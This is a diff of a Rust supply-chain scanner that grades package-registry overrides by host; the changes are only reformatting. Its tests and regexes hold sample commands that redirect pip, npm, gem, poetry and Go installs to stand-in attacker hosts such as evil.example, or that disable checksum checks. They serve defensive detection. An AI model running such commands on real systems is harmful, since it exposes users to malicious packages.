@@ -63,7 +63,9 @@ static CONFIG: LazyLock<[regex::bytes::Regex; 4]> = LazyLock::new(|| {
 
 /// Go's source and checksum variables. Group 1 is the name, 2 the value.
 static GO_ENV: Lazy = LazyLock::new(|| {
-    compile(r#"\b(goproxy|gosumdb|gonosumdb|gonosumcheck|goinsecure|goflags|goprivate|gonoproxy)\s*=\s*['"]?([^\s'"`;]*)"#)
+    compile(
+        r#"\b(goproxy|gosumdb|gonosumdb|gonosumcheck|goinsecure|goflags|goprivate|gonoproxy)\s*=\s*['"]?([^\s'"`;]*)"#,
+    )
 });
 
 /// Cargo replacing crates.io with another source. Group 1 is the source.
@@ -115,12 +117,15 @@ pub(super) fn overrides(line: &str) -> Vec<Override> {
         }
     };
     for c in FLAG.captures_iter(b) {
-        let (flag, url) = (c.get(1).map_or(&b""[..], |m| m.as_bytes()), c.get(2).map_or("", |m| text(m.as_bytes())));
+        let (flag, url) =
+            (c.get(1).map_or(&b""[..], |m| m.as_bytes()), c.get(2).map_or("", |m| text(m.as_bytes())));
         let at = c.get(1).map_or(0, |m| m.start());
         let flag = text(flag).to_ascii_lowercase();
         if TOOL_ONLY_FLAGS.contains(&flag.as_str()) {
             let before = &b[..at];
-            let tool = ["pip", "uv ", "poetry", "pdm ", "gem ", "cargo"].iter().any(|t| contains_ci(before, t.as_bytes()));
+            let tool = ["pip", "uv ", "poetry", "pdm ", "gem ", "cargo"]
+                .iter()
+                .any(|t| contains_ci(before, t.as_bytes()));
             if !tool {
                 continue;
             }
@@ -146,7 +151,13 @@ pub(super) fn overrides(line: &str) -> Vec<Override> {
                 let worst = value
                     .split([',', '|'])
                     .filter(|p| !matches!(p.trim(), "" | "direct" | "off"))
-                    .map(|p| if p.contains("://") { host_severity(p) } else { host_severity(&format!("https://{p}")) })
+                    .map(|p| {
+                        if p.contains("://") {
+                            host_severity(p)
+                        } else {
+                            host_severity(&format!("https://{p}"))
+                        }
+                    })
                     .max()
                     .flatten();
                 push("supply.index-override", worst, at);
@@ -189,11 +200,23 @@ mod tests {
     #[test]
     fn grades_index_flags_by_host() {
         assert_eq!(worst("pip install -i https://pypi.org/simple requests"), None);
-        assert_eq!(worst("pip install --extra-index-url https://download.pytorch.org/whl/cu121 torch"), Some(Severity::Low));
+        assert_eq!(
+            worst("pip install --extra-index-url https://download.pytorch.org/whl/cu121 torch"),
+            Some(Severity::Low)
+        );
         assert_eq!(worst("pip install -i https://test.pypi.org/simple/ mypkg"), Some(Severity::Medium));
-        assert_eq!(worst("pip install --index-url https://pypi.internal.corp/simple acme-utils"), Some(Severity::Medium));
-        assert_eq!(worst("pip install --index-url https://pypi-mirror.evil.example/simple acme"), Some(Severity::High));
-        assert_eq!(worst("pip install --extra-index-url=http://203.0.113.7:8080/simple acme"), Some(Severity::High));
+        assert_eq!(
+            worst("pip install --index-url https://pypi.internal.corp/simple acme-utils"),
+            Some(Severity::Medium)
+        );
+        assert_eq!(
+            worst("pip install --index-url https://pypi-mirror.evil.example/simple acme"),
+            Some(Severity::High)
+        );
+        assert_eq!(
+            worst("pip install --extra-index-url=http://203.0.113.7:8080/simple acme"),
+            Some(Severity::High)
+        );
         assert_eq!(worst("npm install --registry https://npm.evil.example lodash"), Some(Severity::High));
         assert_eq!(worst("gem install rails --source https://gems.evil.example"), Some(Severity::High));
     }
@@ -207,15 +230,24 @@ mod tests {
 
     #[test]
     fn finds_keys_config_commands_and_go_variables() {
-        assert_eq!(worst("export PIP_EXTRA_INDEX_URL=https://pkgs.evil.example/simple"), Some(Severity::High));
+        assert_eq!(
+            worst("export PIP_EXTRA_INDEX_URL=https://pkgs.evil.example/simple"),
+            Some(Severity::High)
+        );
         assert_eq!(worst("echo \"registry=https://npm.evil.example/\" >> ~/.npmrc"), Some(Severity::High));
         assert_eq!(worst("@acme:registry=https://npm.pkg.github.com"), Some(Severity::Low));
         assert_eq!(worst("npmRegistryServer: \"https://r.evil.example\""), Some(Severity::High));
         assert_eq!(worst("npm config set registry https://r.evil.example/"), Some(Severity::High));
         assert_eq!(worst("yarn config set npmRegistryServer https://r.evil.example"), Some(Severity::High));
-        assert_eq!(worst("pip config set global.index-url https://m.evil.example/simple"), Some(Severity::High));
+        assert_eq!(
+            worst("pip config set global.index-url https://m.evil.example/simple"),
+            Some(Severity::High)
+        );
         assert_eq!(worst("index-url = https://m.evil.example/simple"), Some(Severity::High));
-        assert_eq!(worst("poetry source add --priority=primary corp https://m.evil.example/simple"), Some(Severity::High));
+        assert_eq!(
+            worst("poetry source add --priority=primary corp https://m.evil.example/simple"),
+            Some(Severity::High)
+        );
         assert_eq!(worst("go env -w GOPROXY=https://goproxy.evil.example,direct"), Some(Severity::High));
         assert_eq!(worst("GOPROXY=https://proxy.golang.org,direct"), None);
         assert_eq!(worst("export GOSUMDB=off"), Some(Severity::High));
@@ -229,6 +261,9 @@ mod tests {
 
     #[test]
     fn a_warning_lowers_an_override() {
-        assert_eq!(worst("Never use --extra-index-url https://pkgs.evil.example/simple"), Some(Severity::Low));
+        assert_eq!(
+            worst("Never use --extra-index-url https://pkgs.evil.example/simple"),
+            Some(Severity::Low)
+        );
     }
 }
